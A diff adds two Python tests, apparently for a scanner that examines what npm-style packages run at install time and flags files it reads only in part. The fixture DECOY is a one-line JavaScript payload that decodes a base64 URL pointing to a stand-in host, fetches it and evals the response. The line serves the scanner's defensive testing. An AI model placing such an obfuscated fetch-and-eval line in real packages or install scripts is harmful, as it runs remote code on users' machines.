@@ -277,6 +277,21 @@ def test_what_runs_at_install_and_was_not_held_is_a_gap(files: dict[str, str]) -
     assert [one.reason for one in found.unread] == ["code-budget"]
 
 
+DECOY = "exports.find = (x) => fetch(atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv') + x).then(eval);\n"
+
+
+def test_what_runs_at_install_is_parsed_whole_whatever_was_met_in_it() -> None:
+    files = {**NAMES_ELSEWHERE, "go.js": DECOY + PADDING * 4 + NAMES_ELSEWHERE["go.js"]}
+    code = code_of(files, {"scripts": {"install": "node go.js"}}, every=False)
+    assert started(code)["prog"][:2] == ("install", "go.js")
+
+
+def test_what_runs_at_install_and_was_read_in_parts_is_a_gap() -> None:
+    files = {**NAMES_ELSEWHERE, "go.js": DECOY + PADDING * 20 + NAMES_ELSEWHERE["go.js"]}
+    found = reading(files, {"scripts": {"install": "node go.js"}}, every=False).unread
+    assert [(one.path, one.reason) for one in found] == [("go.js", "code-budget")]
+
+
 def test_files_that_are_loaded_from_another_window_run_when_they_are_loaded() -> None:
     pad = "//" + "x y" * 33_000 + "\n"
     files = {f"a{at:02}.js": f"{pad}require('./a{at + 1:02}')" for at in range(20)}
